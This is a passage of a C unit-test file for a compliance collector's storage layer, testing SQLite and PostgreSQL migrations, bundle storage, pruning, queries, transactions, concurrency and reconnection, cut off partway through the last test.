/*
 * check_store.c - the collector's storage (store.h), the summary.json
 * reader, the evidence store and the per-certificate rate limit.
 * Expected values are written by hand from store.h,
 * docs/json-results.md and docs/collector.md.
 *
 * The store cases run twice: against SQLite (test case "sqlite") and,
 * when PLUMB_TEST_PG holds a postgresql:// URL of a database the tests
 * may wipe, against PostgreSQL (test case "postgresql"; each case starts
 * from an empty public schema).  tests/collector/pg.sh starts a private
 * server and sets PLUMB_TEST_PG.
 */
#include "config.h"

#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <libpq-fe.h>

#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/x509.h>
#include <sqlite3.h>

#include "plumb/error.h"
#include "bundle.h"
#include "evidence.h"
#include "ingest.h"
#include "store.h"
#include "summary.h"

static char dir[64];
static char dbpath[128];
static const char *dburl;	/* what open_store() opens */
static int use_pg;		/* the "postgresql" test case */

#define U1 "11111111-1111-4111-8111-111111111111"
#define U2 "22222222-2222-4222-8222-222222222222"
#define U3 "33333333-3333-4333-8333-333333333333"
#define U4 "44444444-4444-4444-8444-444444444444"
#define SHA_A "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
#define SHA_B "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
#define SHA_C "cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc"

static void
setup(void)
{
	snprintf(dir, sizeof(dir), "/tmp/check_store.XXXXXX");
	ck_assert_ptr_nonnull(mkdtemp(dir));
	snprintf(dbpath, sizeof(dbpath), "%s/plumb.db", dir);
	dburl = dbpath;
	use_pg = 0;
}

/* The PostgreSQL cases: PLUMB_TEST_PG emptied (libpq directly, not the
 * code under test). */
static void
setup_pg(void)
{
	PGconn *c;
	PGresult *r;

	setup();
	dburl = getenv("PLUMB_TEST_PG");
	use_pg = 1;
	ck_assert_ptr_nonnull(dburl);
	c = PQconnectdb(dburl);
	ck_assert_msg(PQstatus(c) == CONNECTION_OK, "%s: %s", dburl,
	    PQerrorMessage(c));
	r = PQexec(c, "SET client_min_messages = warning;"
	    "DROP SCHEMA IF EXISTS public CASCADE; CREATE SCHEMA public");
	ck_assert_msg(PQresultStatus(r) == PGRES_COMMAND_OK, "%s",
	    PQerrorMessage(c));
	PQclear(r);
	PQfinish(c);
}

static void
teardown(void)
{
	char cmd[128];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	if (system(cmd) != 0)
		fprintf(stderr, "%s: could not remove %s\n", __FILE__, dir);
}

static struct store *
open_store(void)
{
	struct store *s = NULL;
	struct plumb_err err;

	memset(&err, 0, sizeof(err));
	ck_assert_msg(store_open(dburl, &s, &err) == PLUMB_OK, "%s", err.msg);
	return s;
}

/* Row callback: "v1|v2|...\n" appended to a buffer (NULL as "-"). */
struct rows_buf {
	char text[1024];
	size_t rows;
};

static int
rows_cat(void *arg, const char *const *vals, size_t ncols)
{
	struct rows_buf *b = arg;
	size_t i, off = strlen(b->text);

	for (i = 0; i < ncols && off < sizeof(b->text); i++)
		off += (size_t)snprintf(b->text + off, sizeof(b->text) - off,
		    "%s%s", i > 0 ? "|" : "", vals[i] != NULL ? vals[i] : "-");
	if (off < sizeof(b->text))
		snprintf(b->text + off, sizeof(b->text) - off, "\n");
	b->rows++;
	return 0;
}

/* sql's rows as text ("" when none); fails the test on error. */
static const char *
q(struct store *s, const char *sql, const char *const *p, size_t np)
{
	static struct rows_buf b;
	struct plumb_err err;

	memset(&b, 0, sizeof(b));
	ck_assert_msg(store_query(s, sql, p, np, rows_cat, &b, NULL, &err) ==
	    PLUMB_OK, "%s: %s", sql, err.msg);
	return b.text;
}

static void
host_of(struct store_host *h, const char *id, const char *role)
{
	memset(h, 0, sizeof(*h));
	snprintf(h->id, sizeof(h->id), "%s", id);
	snprintf(h->role, sizeof(h->role), "%s", role);
	snprintf(h->site, sizeof(h->site), "north");
	snprintf(h->zone, sizeof(h->zone), "z1");
}

static void
bundle_of(struct store_bundle *b, const char *uuid, const char *host,
    time_t created, time_t received, const char *sha)
{
	memset(b, 0, sizeof(*b));
	snprintf(b->uuid, sizeof(b->uuid), "%s", uuid);
	snprintf(b->host, sizeof(b->host), "%s", host);
	snprintf(b->signer, sizeof(b->signer), "CN = %s", host);
	snprintf(b->signer_sha256, sizeof(b->signer_sha256), SHA_C);
	snprintf(b->evidence_sha256, sizeof(b->evidence_sha256), "%s", sha);
	snprintf(b->archive_sha256, sizeof(b->archive_sha256), SHA_B);
	snprintf(b->profile_id, sizeof(b->profile_id), "xccdf_p_core");
	b->created = created;
	b->received = received;
	b->evidence_bytes = 1234;
	b->platform_applicable = 1;
	/* Given out of column order: mapped by system name. */
	snprintf(b->scores[0].system, sizeof(b->scores[0].system),
	    "urn:xccdf:scoring:flat");
	b->scores[0].score = 3;
	b->scores[0].max = 4;
	snprintf(b->scores[1].system, sizeof(b->scores[1].system),
	    "urn:xccdf:scoring:default");
	b->scores[1].score = 75.5;
	b->scores[1].max = 100;
	b->nscores = 2;
	b->counts.pass = 3;
	b->counts.fail = 1;
	b->counts.notselected = 7;
}

static int
insert(struct store *s, const char *uuid, const char *host, time_t created,
    time_t received, const char *sha, const char *items)
{
	struct store_host h;
	struct store_bundle b;
	struct store_rule r[2];
	struct plumb_err err;
	int dup = -1;

	host_of(&h, host, "mes");
	bundle_of(&b, uuid, host, created, received, sha);
	memset(r, 0, sizeof(r));
	r[0].rule_id = "xccdf_r_one";
	r[0].result = "pass";
	r[0].severity = "high";
	r[0].weight = 2;
	r[0].items_digest = (char *)items;
	r[0].references = "[{\"href\":\"iso27001\",\"text\":\"A.8.9\"}]";
	r[1].rule_id = "xccdf_r_two";
	r[1].result = "fail";
	r[1].severity = "low";
	r[1].weight = 1;
	memset(&err, 0, sizeof(err));
	ck_assert_msg(store_bundle_insert(s, &h, &b, r, 2, &dup, &err) ==
	    PLUMB_OK, "%s", err.msg);
	return dup;
}

START_TEST(test_open_urls)
{
	struct store *s = (struct store *)1;
	struct plumb_err err;

	/* Port 1 of loopback: nothing listens; the password stays out of
	 * the message. */
	ck_assert_int_eq(store_open("postgresql://u:secret@127.0.0.1:1/plumb"
	    "?connect_timeout=5", &s, &err), PLUMB_EIO);
	ck_assert_ptr_null(s);
	ck_assert_ptr_nonnull(strstr(err.msg,
	    "postgresql://u:***@127.0.0.1:1/plumb: cannot connect"));
	ck_assert_ptr_null(strstr(err.msg, "secret"));
	ck_assert_int_eq(store_open("postgres://127.0.0.1:1/x", &s, &err),
	    PLUMB_EIO);
	ck_assert_int_eq(store_open("mysql://db/x", &s, &err), PLUMB_ENOTSUP);
	ck_assert_ptr_nonnull(strstr(err.msg, "postgresql:// URL"));
	ck_assert_int_eq(store_open("sqlite:", &s, &err), PLUMB_ENOTSUP);
	ck_assert_int_eq(store_open("", &s, &err), PLUMB_EINVAL);
	ck_assert_ptr_null(s);
	/* "sqlite:PATH" is the path. */
	{
		char u[160];

		snprintf(u, sizeof(u), "sqlite:%s", dbpath);
		ck_assert_int_eq(store_open(u, &s, &err), PLUMB_OK);
		store_close(s);
		ck_assert_int_eq(access(dbpath, F_OK), 0);
	}
}
END_TEST

START_TEST(test_migrations)
{
	static const struct store_migration d1[] = {
		{ 1, "CREATE TABLE drift_t (a INTEGER)" },
	};
	static const struct store_migration d2[] = {
		{ 1, "CREATE TABLE drift_t (a INTEGER)" },
		{ 2, "ALTER TABLE drift_t ADD COLUMN b TEXT" },
	};
	static const struct store_migration bad[] = {
		{ 2, "SELECT 1" }, { 1, "SELECT 1" },
	};
	struct store *s = open_store();
	struct plumb_err err;
	int v = -1;

	ck_assert_int_eq(store_schema_version(s, "core", &v, &err), 0);
	ck_assert_int_eq(v, 2);
	ck_assert_int_eq(store_schema_version(s, "drift", &v, &err), 0);
	ck_assert_int_eq(v, 0);
	ck_assert_int_eq(store_migrate(s, "drift", d1, 1, &err), 0);
	/* Applying again changes nothing (a second CREATE would fail). */
	ck_assert_int_eq(store_migrate(s, "drift", d1, 1, &err), 0);
	ck_assert_int_eq(store_migrate(s, "drift", d2, 2, &err), 0);
	ck_assert_int_eq(store_schema_version(s, "drift", &v, &err), 0);
	ck_assert_int_eq(v, 2);
	ck_assert_int_eq(store_migrate(s, "x", bad, 2, &err), PLUMB_EINVAL);
	ck_assert_str_eq(q(s, "SELECT component, version FROM "
	    "schema_migrations ORDER BY component, version", NULL, 0),
	    "core|1\ncore|2\ndrift|1\ndrift|2\n");
	if (use_pg)
		ck_assert_ptr_null(store_sqlite_handle(s));
	else
		ck_assert_ptr_nonnull(store_sqlite_handle(s));
	store_close(s);
	/* Reopening applies nothing twice. */
	s = open_store();
	ck_assert_int_eq(store_schema_version(s, "core", &v, &err), 0);
	ck_assert_int_eq(v, 2);
	store_close(s);
}
END_TEST

/* "name type notnull default pk" of each column, one line each. */
static void
columns(sqlite3 *db, const char *table, char *out, size_t len)
{
	sqlite3_stmt *st;
	char sql[128];
	size_t off = 0;

	out[0] = '\0';
	snprintf(sql, sizeof(sql), "PRAGMA table_info(%s)", table);
	ck_assert_int_eq(sqlite3_prepare_v2(db, sql, -1, &st, NULL),
	    SQLITE_OK);
	while (sqlite3_step(st) == SQLITE_ROW && off < len)
		off += (size_t)snprintf(out + off, len - off, "%s %s %d %s %d\n",
		    sqlite3_column_text(st, 1), sqlite3_column_text(st, 2),
		    sqlite3_column_int(st, 3),
		    sqlite3_column_text(st, 4) != NULL ?
		    (const char *)sqlite3_column_text(st, 4) : "-",
		    sqlite3_column_int(st, 5));
	sqlite3_finalize(st);
}

START_TEST(test_schema_sql_matches)
{
	static const char *tables[] = { "schema_migrations", "hosts",
	    "bundles", "rule_results", "host_baselines" };
	const char *src = getenv("top_srcdir");
	char path[1024], a[8192], b[8192], *sql, *msg = NULL;
	struct store *s;
	sqlite3 *mem;
	FILE *f;
	long n;
	size_t i;

	if (src == NULL)
		src = "../..";
	snprintf(path, sizeof(path), "%s/collector/schema.sql", src);
	ck_assert_msg((f = fopen(path, "r")) != NULL, "%s", path);
	fseek(f, 0, SEEK_END);
	n = ftell(f);
	rewind(f);
	ck_assert_ptr_nonnull(sql = calloc(1, (size_t)n + 1));
	ck_assert_int_eq(fread(sql, 1, (size_t)n, f), (size_t)n);
	fclose(f);
	ck_assert_int_eq(sqlite3_open(":memory:", &mem), SQLITE_OK);
	ck_assert_msg(sqlite3_exec(mem, sql, NULL, NULL, &msg) == SQLITE_OK,
	    "%s", msg);
	s = open_store();
	for (i = 0; i < sizeof(tables) / sizeof(tables[0]); i++) {
		columns(mem, tables[i], a, sizeof(a));
		columns(store_sqlite_handle(s), tables[i], b, sizeof(b));
		ck_assert_msg(a[0] != '\0', "%s empty", tables[i]);
		ck_assert_str_eq(a, b);
	}
	store_close(s);
	sqlite3_close(mem);
	free(sql);
}
END_TEST

START_TEST(test_insert_get_duplicate)
{
	struct store *s = open_store();
	struct store_bundle b;
	struct store_rule *r = NULL;
	struct store_host h;
	struct plumb_err err;
	size_t n = 9;
	int ex = -1;

	ck_assert_int_eq(insert(s, U1, "mes01", 1000, 1010, SHA_A,
	    "sha256:01"), 0);
	/* The same uuid again: nothing changes, rules not doubled. */
	ck_assert_int_eq(insert(s, U1, "mes01", 1000, 1020, SHA_A, NULL), 1);
	ck_assert_int_eq(store_bundle_exists(s, U1, &ex, &err), 0);
	ck_assert_int_eq(ex, 1);
	ck_assert_int_eq(store_bundle_exists(s, U2, &ex, &err), 0);
	ck_assert_int_eq(ex, 0);
	ck_assert_int_eq(store_bundle_get(s, U1, &b, &err), 0);
	ck_assert_str_eq(b.host, "mes01");
	ck_assert_str_eq(b.evidence_sha256, SHA_A);
	ck_assert_str_eq(b.profile_id, "xccdf_p_core");
	ck_assert_int_eq(b.received, 1010);
	ck_assert_int_eq(b.evidence_bytes, 1234);
	ck_assert_uint_eq(b.nrules, 2);
	ck_assert_uint_eq(b.counts.pass, 3);
	ck_assert_uint_eq(b.counts.notselected, 7);
	/* Scores come back in model order: default first, then flat. */
	ck_assert_uint_eq(b.nscores, 2);
	ck_assert_str_eq(b.scores[0].system, "urn:xccdf:scoring:default");
	ck_assert_double_eq(b.scores[0].score, 75.5);
	ck_assert_str_eq(b.scores[1].system, "urn:xccdf:scoring:flat");
	ck_assert_double_eq(b.scores[1].max, 4);
	ck_assert_int_eq(store_bundle_get(s, U2, &b, &err), PLUMB_ENOENT);

	ck_assert_int_eq(store_rules_get(s, U1, &r, &n, &err), 0);
	ck_assert_uint_eq(n, 2);
	ck_assert_str_eq(r[0].rule_id, "xccdf_r_one");
	ck_assert_str_eq(r[0].items_digest, "sha256:01");
	ck_assert_str_eq(r[0].references,
	    "[{\"href\":\"iso27001\",\"text\":\"A.8.9\"}]");
	ck_assert_str_eq(r[0].role, "full");
	ck_assert_double_eq(r[0].weight, 2);
	ck_assert_str_eq(r[1].result, "fail");
	ck_assert_ptr_null(r[1].items_digest);
	ck_assert_ptr_null(r[1].title);
	ck_assert_str_eq(r[1].references, "[]");
	ck_assert_uint_eq(r[1].seq, 1);
	store_rules_free(r, n);
	ck_assert_int_eq(store_rules_get(s, U2, &r, &n, &err), PLUMB_ENOENT);
	ck_assert_ptr_null(r);

	ck_assert_int_eq(store_host_get(s, "mes01", &h, &err), 0);
	ck_assert_str_eq(h.role, "mes");
	ck_assert_str_eq(h.zone, "z1");
	ck_assert_int_eq(h.first_seen, 1010);
	ck_assert_int_eq(h.last_seen, 1010);	/* duplicate: no update */
	ck_assert_int_eq(store_host_get(s, "nope", &h, &err), PLUMB_ENOENT);
	store_close(s);
}
END_TEST

START_TEST(test_lists_history)
{
	struct store *s = open_store();
	struct store_bundle *b = NULL;
	struct store_host *h = NULL, one;
	struct store_rule *r = NULL;
	struct plumb_err err;
	size_t n = 0;

	insert(s, U1, "mes01", 1000, 1100, SHA_A, "sha256:01");
	insert(s, U2, "mes01", 2000, 2100, SHA_B, "sha256:02");
	insert(s, U3, "erp01", 1500, 1600, SHA_C, NULL);
	ck_assert_int_eq(store_host_get(s, "mes01", &one, &err), 0);
	ck_assert_int_eq(one.first_seen, 1100);
	ck_assert_int_eq(one.last_seen, 2100);

	ck_assert_int_eq(store_bundles_list(s, NULL, 0, 0, &b, &n, &err), 0);
	ck_assert_uint_eq(n, 3);
	ck_assert_str_eq(b[0].uuid, U2);	/* newest created first */
	ck_assert_str_eq(b[1].uuid, U3);
	ck_assert_str_eq(b[2].uuid, U1);
	store_bundles_free(b);
	ck_assert_int_eq(store_bundles_list(s, "mes01", 0, 1, &b, &n, &err),
	    0);
	ck_assert_uint_eq(n, 1);
	ck_assert_str_eq(b[0].uuid, U2);
	store_bundles_free(b);
	ck_assert_int_eq(store_bundles_list(s, NULL, 1500, 0, &b, &n, &err),
	    0);
	ck_assert_uint_eq(n, 2);
	store_bundles_free(b);
	ck_assert_int_eq(store_bundles_list(s, "none", 0, 0, &b, &n, &err),
	    0);
	ck_assert_uint_eq(n, 0);
	ck_assert_ptr_null(b);

	ck_assert_int_eq(store_hosts_list(s, &h, &n, &err), 0);
	ck_assert_uint_eq(n, 2);
	ck_assert_str_eq(h[0].id, "erp01");
	ck_assert_str_eq(h[1].id, "mes01");
	store_hosts_free(h);

	ck_assert_int_eq(store_rule_history(s, "mes01", "xccdf_r_one", 0, &r,
	    &n, &err), 0);
	ck_assert_uint_eq(n, 2);
	ck_assert_str_eq(r[0].bundle_uuid, U2);
	ck_assert_int_eq(r[0].created, 2000);
	ck_assert_str_eq(r[0].items_digest, "sha256:02");
	ck_assert_str_eq(r[1].bundle_uuid, U1);
	ck_assert_str_eq(r[1].items_digest, "sha256:01");
	store_rules_free(r, n);
	store_close(s);
}
END_TEST

START_TEST(test_prune)
{
	struct store *s = open_store();
	struct store_rule *r = NULL;
	struct plumb_err err;
	char **d = NULL;
	size_t n = 9, nr = 9;
	int ex;

	/* mes01: 100 (own evidence), 200 (evidence shared with 300), 300;
	 * erp01: only 50, old but its newest. */
	insert(s, U1, "mes01", 100, 100, SHA_A, NULL);
	insert(s, U2, "mes01", 200, 200, SHA_B, NULL);
	insert(s, U3, "mes01", 300, 300, SHA_B, NULL);
	insert(s, U4, "erp01", 50, 50, SHA_C, NULL);
	ck_assert_int_eq(store_prune(s, 250, &d, &n, &err), 0);
	ck_assert_uint_eq(n, 1);
	ck_assert_str_eq(d[0], SHA_A);
	store_strings_free(d, n);
	store_bundle_exists(s, U1, &ex, &err);
	ck_assert_int_eq(ex, 0);
	store_bundle_exists(s, U2, &ex, &err);
	ck_assert_int_eq(ex, 0);
	store_bundle_exists(s, U3, &ex, &err);
	ck_assert_int_eq(ex, 1);
	store_bundle_exists(s, U4, &ex, &err);
	ck_assert_int_eq(ex, 1);
	ck_assert_int_eq(store_rules_get(s, U3, &r, &nr, &err), 0);
	ck_assert_uint_eq(nr, 2);
	store_rules_free(r, nr);
	/* Rows of the deleted bundles are gone too. */
	ck_assert_str_eq(q(s, "SELECT count(*) FROM rule_results", NULL, 0),
	    "4\n");
	/* Nothing more to do: the newest of each host stays. */
	ck_assert_int_eq(store_prune(s, 100000, &d, &n, &err), 0);
	ck_assert_uint_eq(n, 0);
	ck_assert_ptr_null(d);
	store_close(s);
}
END_TEST

/* Store a bundle of mes01 without rules, of baseline (profile, root). */
static void
insert_of(struct store *s, const char *uuid, time_t created,
    const char *profile, const char *root)
{
	struct store_host h;
	struct store_bundle b;
	struct plumb_err err;
	int dup = -1;

	host_of(&h, "mes01", "mes");
	bundle_of(&b, uuid, "mes01", created, created, SHA_A);
	snprintf(b.profile_id, sizeof(b.profile_id), "%s", profile);
	snprintf(b.target_root, sizeof(b.target_root), "%s", root);
	ck_assert_msg(store_bundle_insert(s, &h, &b, NULL, 0, &dup, &err) ==
	    PLUMB_OK, "%s", err.msg);
	ck_assert_int_eq(dup, 0);
}

/*
 * The newest scan of each baseline (benchmark, profile, root), whatever
 * order scans arrive in: U1 core @100, U2 core @300 (arrives before
 * U1), U3 ssg @200, U4 core under /mnt @50 -> core U2, core /mnt U4,
 * ssg U3.  Retention at 1000 deletes only U1: the others are the newest
 * of their baseline.
 */
START_TEST(test_baselines)
{
	struct store *s = open_store();
	struct store_bundle *b = NULL;
	struct plumb_err err;
	char **d = NULL;
	size_t n = 0;
	int ex;

	insert_of(s, U2, 300, "core", "");
	insert_of(s, U1, 100, "core", "");
	insert_of(s, U3, 200, "ssg", "");
	insert_of(s, U4, 50, "core", "/mnt");
	ck_assert_int_eq(store_baselines_list(s, "mes01", &b, &n, &err), 0);
	ck_assert_uint_eq(n, 3);
	ck_assert_str_eq(b[0].uuid, U2);
	ck_assert_str_eq(b[0].target_root, "");
	ck_assert_str_eq(b[1].uuid, U4);
	ck_assert_str_eq(b[1].target_root, "/mnt");
	ck_assert_str_eq(b[2].uuid, U3);
	ck_assert_str_eq(b[2].profile_id, "ssg");
	store_bundles_free(b);
	ck_assert_int_eq(store_prune(s, 1000, &d, &n, &err), 0);
	store_strings_free(d, n);
	store_bundle_exists(s, U1, &ex, &err);
	ck_assert_int_eq(ex, 0);
	store_bundle_exists(s, U4, &ex, &err);
	ck_assert_int_eq(ex, 1);
	store_bundle_exists(s, U3, &ex, &err);
	ck_assert_int_eq(ex, 1);
	ck_assert_int_eq(store_baselines_list(s, "nobody", &b, &n, &err), 0);
	ck_assert_uint_eq(n, 0);
	ck_assert_ptr_null(b);
	store_close(s);
}
END_TEST

/* Row callback that stops after the first row. */
static int
first_only(void *arg, const char *const *vals, size_t ncols)
{
	(*(int *)arg)++;
	return 1;
}

START_TEST(test_query)
{
	static const struct store_migration m[] = {
		{ 1, "CREATE TABLE qt (k TEXT PRIMARY KEY, n INTEGER NOT NULL,"
		    " x REAL, note TEXT)" },
	};
	static const char ins[] =
	    "INSERT INTO qt (n, k, x, note) VALUES ($2, $1, $3, $4)";
	struct store *s = open_store();
	struct plumb_err err;
	const char *p[4];
	uint64_t ch = 9;
	int nrows = 0;

	ck_assert_int_eq(store_migrate(s, "qtest", m, 1, &err), 0);
	/* $2 used before $1; NULL binds SQL NULL; 2^33 needs 64 bits. */
	p[0] = "a";
	p[1] = "8589934592";
	p[2] = "0.1";
	p[3] = NULL;
	ck_assert_int_eq(store_query(s, ins, p, 4, NULL, NULL, &ch, &err), 0);
	ck_assert_uint_eq(ch, 1);
	p[0] = "b";
	p[1] = "2";
	p[2] = "100";
	p[3] = "two";
	ck_assert_int_eq(store_query(s, ins, p, 4, NULL, NULL, NULL, &err), 0);
	/* REAL as the shortest exact text on both backends. */
	ck_assert_str_eq(q(s, "SELECT k, n, x, note FROM qt ORDER BY k", NULL,
	    0), "a|8589934592|0.1|-\nb|2|100|two\n");
	/* A bare parameter gets its type from CAST (64-bit INTEGER). */
	p[0] = "4294967296";
	ck_assert_str_eq(q(s, "SELECT k FROM qt WHERE n > CAST($1 AS INTEGER)",
	    p, 1), "a\n");
	/* A parameter the SQL does not use is ignored. */
	p[0] = "b";
	p[1] = "unused";
	ck_assert_str_eq(q(s, "SELECT note FROM qt WHERE k = $1", p, 2),
	    "two\n");
	p[0] = "5";
	ck_assert_int_eq(store_query(s, "UPDATE qt SET n = n + "
	    "CAST($1 AS INTEGER)", p, 1, NULL, NULL, &ch, &err), 0);
	ck_assert_uint_eq(ch, 2);
	ck_assert_str_eq(q(s, "SELECT n FROM qt ORDER BY k", NULL, 0),
	    "8589934597\n7\n");
	/* fn stops early: still PLUMB_OK, one call. */
	ck_assert_int_eq(store_query(s, "SELECT k FROM qt", NULL, 0,
	    first_only, &nrows, NULL, &err), 0);
	ck_assert_int_eq(nrows, 1);
	/* A unique key violated: PLUMB_EINVAL; ON CONFLICT: 0 changes. */
	p[0] = "a";
	p[1] = "1";
	ck_assert_int_eq(store_query(s, "INSERT INTO qt (k, n) VALUES ($1, $2)",
	    p, 2, NULL, NULL, NULL, &err), PLUMB_EINVAL);
	ck_assert_int_eq(store_query(s, "INSERT INTO qt (k, n) VALUES ($1, $2)"
	    " ON CONFLICT (k) DO NOTHING", p, 2, NULL, NULL, &ch, &err), 0);
	ck_assert_uint_eq(ch, 0);
	ck_assert_int_eq(store_query(s, "SELEC 1", NULL, 0, NULL, NULL, NULL,
	    &err), PLUMB_EIO);
	/* Transactions: rollback undoes, commit keeps; a failed statement
	 * inside one, then rollback, leaves the store usable. */
	p[0] = "c";
	ck_assert_int_eq(store_tx_begin(s, &err), 0);
	ck_assert_int_eq(store_query(s, "INSERT INTO qt (k, n) VALUES ($1, $2)",
	    p, 2, NULL, NULL, NULL, &err), 0);
	store_tx_rollback(s);
	ck_assert_str_eq(q(s, "SELECT count(*) FROM qt", NULL, 0), "2\n");
	ck_assert_int_eq(store_tx_begin(s, &err), 0);
	ck_assert_int_eq(store_query(s, "INSERT INTO qt (k, n) VALUES ($1, $2)",
	    p, 2, NULL, NULL, NULL, &err), 0);
	ck_assert_int_eq(store_tx_commit(s, &err), 0);
	ck_assert_str_eq(q(s, "SELECT count(*) FROM qt", NULL, 0), "3\n");
	ck_assert_int_eq(store_tx_begin(s, &err), 0);
	ck_assert_int_eq(store_query(s, "INSERT INTO qt (k, n) VALUES ($1, $2)",
	    p, 2, NULL, NULL, NULL, &err), PLUMB_EINVAL);
	store_tx_rollback(s);
	store_tx_rollback(s);	/* none open: nothing happens */
	ck_assert_str_eq(q(s, "SELECT count(*) FROM qt", NULL, 0), "3\n");
	/* Type words inside a literal stay as written. */
	ck_assert_str_eq(q(s, "SELECT 'INTEGER REAL' || ''", NULL, 0),
	    "INTEGER REAL\n");
	store_close(s);
}
END_TEST

/* Hosts sort by bytes on both backends, whatever the collation of the
 * PostgreSQL database (tests/collector/pg.sh makes an ICU one). */
START_TEST(test_host_order)
{
	static const char *ids[] = { "b-host", "B-host", "_x", "a-host", "Z9" };
	struct store *s = open_store();
	struct store_host *h = NULL;
	struct plumb_err err;
	char uuid[40];
	size_t i, n = 0;

	for (i = 0; i < sizeof(ids) / sizeof(ids[0]); i++) {
		snprintf(uuid, sizeof(uuid),
		    "%08zu-1111-4111-8111-111111111111", i);
		ck_assert_int_eq(insert(s, uuid, ids[i], 100, 100, SHA_A, NULL),
		    0);
	}
	ck_assert_int_eq(store_hosts_list(s, &h, &n, &err), 0);
	ck_assert_uint_eq(n, 5);
	ck_assert_str_eq(h[0].id, "B-host");
	ck_assert_str_eq(h[1].id, "Z9");
	ck_assert_str_eq(h[2].id, "_x");
	ck_assert_str_eq(h[3].id, "a-host");
	ck_assert_str_eq(h[4].id, "b-host");
	store_hosts_free(h);
	store_close(s);
}
END_TEST

/* What a racing collector process does: open (migrating), migrate a
 * component, store the same bundle.  Exit 0 stored, 1 duplicate, 3
 * error (no Check assertions in a grandchild). */
static const struct store_migration race_m[] = {
	{ 1, "CREATE TABLE race_t (k TEXT PRIMARY KEY, n INTEGER)" },
	{ 2, "ALTER TABLE race_t ADD COLUMN m REAL" },
};

static void
race_child(int gate)
{
	struct store *s = NULL;
	struct store_host h;
	struct store_bundle b;
	struct store_rule r[2];
	struct plumb_err err;
	char c;
	int dup = -1;

	if (read(gate, &c, 1) < 0)	/* all start together */
		_exit(2);
	memset(r, 0, sizeof(r));
	r[0].rule_id = "xccdf_r_one";
	r[0].result = "pass";
	r[1].rule_id = "xccdf_r_two";
	r[1].result = "fail";
	host_of(&h, "mes01", "mes");
	bundle_of(&b, U1, "mes01", 100, 100, SHA_A);
	if (store_open(dburl, &s, &err) != 0 ||
	    store_migrate(s, "race", race_m, 2, &err) != 0 ||
	    store_bundle_insert(s, &h, &b, r, 2, &dup, &err) != 0) {
		fprintf(stderr, "race child: %s\n", err.msg);
		_exit(3);
	}
	store_close(s);
	_exit(dup == 0 ? 0 : dup == 1 ? 1 : 3);
}

START_TEST(test_concurrent)
{
	enum { NCHILD = 4 };
	pid_t pid[NCHILD];
	struct store *s;
	int gate[2], i, st, stored = 0, dups = 0;

	ck_assert_int_eq(pipe(gate), 0);
	for (i = 0; i < NCHILD; i++) {
		ck_assert_int_ge(pid[i] = fork(), 0);
		if (pid[i] == 0) {
			close(gate[1]);
			race_child(gate[0]);
		}
	}
	close(gate[0]);
	close(gate[1]);		/* EOF: go */
	for (i = 0; i < NCHILD; i++) {
		ck_assert_int_eq(waitpid(pid[i], &st, 0), pid[i]);
		ck_assert(WIFEXITED(st));
		stored += WEXITSTATUS(st) == 0;
		dups += WEXITSTATUS(st) == 1;
	}
	ck_assert_int_eq(stored, 1);
	ck_assert_int_eq(dups, NCHILD - 1);
	s = open_store();
	ck_assert_str_eq(q(s, "SELECT count(*) FROM bundles", NULL, 0), "1\n");
	ck_assert_str_eq(q(s, "SELECT count(*) FROM rule_results", NULL, 0),
	    "2\n");
	ck_assert_str_eq(q(s, "SELECT component, version FROM "
	    "schema_migrations ORDER BY component, version", NULL, 0),
	    "core|1\ncore|2\nrace|1\nrace|2\n");
	ck_assert_str_eq(q(s, "SELECT count(*) FROM race_t", NULL, 0), "0\n");
	store_close(s);
}
END_TEST

/* The PostgreSQL spelling of the common schema. */
START_TEST(test_pg_schema)
{
	static const struct store_migration d1[] = {
		{ 1, "CREATE TABLE drift_t (a INTEGER, b REAL, c TEXT)" },
	};
	struct store *s = open_store();
	struct plumb_err err;

	ck_assert_str_eq(q(s, "SELECT column_name, data_type, is_identity,"
	    " coalesce(collation_name, '-') FROM information_schema.columns"
	    " WHERE table_name = 'bundles' AND column_name IN"
	    " ('id', 'uuid', 'created', 'score_default') ORDER BY column_name",
	    NULL, 0), "created|bigint|NO|-\n"
	    "id|bigint|YES|-\n"
	    "score_default|double precision|NO|-\n"
	    "uuid|text|NO|C\n");
	ck_assert_str_eq(q(s, "SELECT data_type FROM information_schema.columns"
	    " WHERE table_name = 'rule_results' AND column_name = 'bundle_id'",
	    NULL, 0), "bigint\n");
	ck_assert_int_eq(store_migrate(s, "drift", d1, 1, &err), 0);
	ck_assert_str_eq(q(s, "SELECT column_name, data_type,"
	    " coalesce(collation_name, '-') FROM information_schema.columns"
	    " WHERE table_name = 'drift_t' ORDER BY column_name", NULL, 0),
	    "a|bigint|-\nb|double precision|-\nc|text|C\n");
	store_close(s);
}
END_TEST

/* A connection the server dropped: that statement fails, the next one
 * reconnects; inside a transaction it does not (the caller rolls back). */
START_TEST(test_pg_reconnect)
{
	struct store *s = open_store();
	struct store_host *h = NULL;
	struct plumb_err err;
	char pid[32], sql[96];
	const char *p[1];
	size_t n = 9;
	PGconn *c;
	PGresult *r;
	int rc;

	/* Prepares the store's statement on this connection. */
	ck_assert_int_eq(store_hosts_list(s, &h, &n, &err), 0);
	snprintf(pid, sizeof(pid), "%s", q(s, "SELECT pg_backend_pid()",
	    NULL, 0));
	pid[strcspn(pid, "\n")] = '\0';
	c = PQconnectdb(dburl);
	ck_assert_int_eq(PQstatus(c), CONNECTION_OK);
	snprintf(sql, sizeof(sql), "SELECT pg_terminate_backend(%s)", pid);
	r = PQexec(c, sql);
	ck_assert_int_eq(PQresultStatus(r), PGRES_TUPLES_OK);
	ck_assert_str_eq(PQgetvalue(r, 0, 0), "t");
	PQclear(r);
	usleep(200000);
	ck_assert_int_eq(store_query(s, "SELECT 1", NULL, 0, NULL, NULL, NULL,
	    &err), PLUMB_EIO);
	ck_assert_str_eq(q(s, "SELECT count(*) FROM hosts", NULL, 0), "0\n");
	/* The new connection prepares it again. */
	ck_assert_msg(store_hosts_list(s, &h, &n, &err) == 0, "%s", err.msg);
	ck_assert_uint_eq(n, 0);
	/* The same text as pid plus "\n" would mean the old backend. */
	snprintf(sql, sizeof(sql), "%s\n", pid);
